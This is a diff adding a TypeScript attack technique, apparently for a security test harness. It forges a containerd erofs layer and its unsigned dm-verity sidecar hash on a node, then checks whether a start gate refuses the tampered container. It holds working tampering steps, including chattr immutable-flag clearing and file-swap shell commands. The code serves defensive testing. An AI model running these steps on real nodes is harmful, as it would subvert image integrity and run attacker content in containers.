@@ -1,0 +1,61 @@
+/**
+ * Attack: root on the node replaces a pulled layer.erofs with a rebuilt one
+ * (same mkfs.erofs flags and UUID as containerd's differ, attacker content)
+ * and writes a matching root hash next to it, as containerd 2.3 keeps an
+ * unsigned `layer.erofs.dmverity` sidecar. Only a root hash bound to the
+ * image signature can tell: the start gate must refuse.
+ */
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { buildImage } from '../../images/index.ts';
+import { nodeMkfsErofsArgv } from '../../signer/index.ts';
+import { computeRootHash, DELIVERY_KIT_PARAMS } from '../../verity/index.ts';
+import type { Workload } from '../../spec/schemas.ts';
+import type { Technique } from '../technique.ts';
+import { declaredContent, findLayerFileContaining, requirePath, requirePayload } from './common.ts';
+import { readInContainer, tryStart } from './start.ts';
+
+/** The workload's image with the target file's content replaced. */
+function withContent(image: Workload['spec']['image'], path: string, content: string): Workload['spec']['image'] {
+  return { ...image, layers: image.layers.map((l) => ({ ...l, files: l.files?.map((f) => (f.path === path ? { ...f, content } : f)) })) };
+}
+
+export const layerFileSwap: Technique = {
+  name: 'layer-file-swap',
+  async run({ node, attack, workload, pods }) {
+    const path = requirePath(attack);
+    const payload = requirePayload(attack);
+    const ref = node.imageRef(workload.spec.image.repository, workload.spec.image.tag);
+    const genuine = await node.pushImage(workload.spec.image);
+    await node.cri.pullImage(ref);
+    const target = await findLayerFileContaining(node, declaredContent(workload, path));
+
+    // Rebuild the layer that holds the file, with the attacker's content.
+    const busybox = async () => node.readFile('/bin/busybox');
+    const forged = await buildImage(withContent(workload.spec.image, path, payload), { busybox });
+    const index = workload.spec.image.layers.findIndex((l) => l.files?.some((f) => f.path === path));
+    const tarPath = join(node.shareDir, 'forged-layer.tar');
+    const outPath = join(node.shareDir, 'forged-layer.erofs');
+    await writeFile(tarPath, forged.layerTars[index]!);
+    await node.run(['rm', '-f', outPath]);
+    const genuineLayer = genuine.manifest.layers[index]!;
+    await node.run(nodeMkfsErofsArgv({ digest: genuineLayer.digest, diffId: '' }, outPath, tarPath));
+    const forgedRoot = (await computeRootHash(outPath, DELIVERY_KIT_PARAMS)).toString('hex');
+
+    // Swap the file (new inode) and the sidecar together, as root would.
+    const immutable = /^\S*i\S*\s/.test((await node.exec.run(['lsattr', target.layerFile])).stdout.toString());
+    if (immutable) await node.run(['chattr', '-i', target.layerFile]);
+    await node.run(['sh', '-c', `cp "$1" "$2.new" && mv -f "$2.new" "$2" && printf %s "$3" > "$2.dmverity"`, 'sh', outPath, target.layerFile, forgedRoot]);
+    if (immutable) await node.run(['chattr', '+i', target.layerFile]);
+    await node.run(['sh', '-c', 'sync && echo 3 > /proc/sys/vm/drop_caches']);
+
+    const evidence: Record<string, unknown> = { ref, layerFile: target.layerFile, forgedRootHash: forgedRoot, sidecar: `${target.layerFile}.dmverity`, immutableFlagCleared: immutable };
+    const start = await tryStart(node, workload, pods);
+    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
+    const seen = await readInContainer(node, start.pod, path);
+    evidence.contentSeen = seen.content.toString();
+    return seen.content.toString() === payload
+      ? { effect: true, reason: `the container started from the swapped layer file and reads the attacker's ${path}`, evidence }
+      : { effect: false, reason: `the container started but reads the original ${path}`, evidence };
+  },
+};
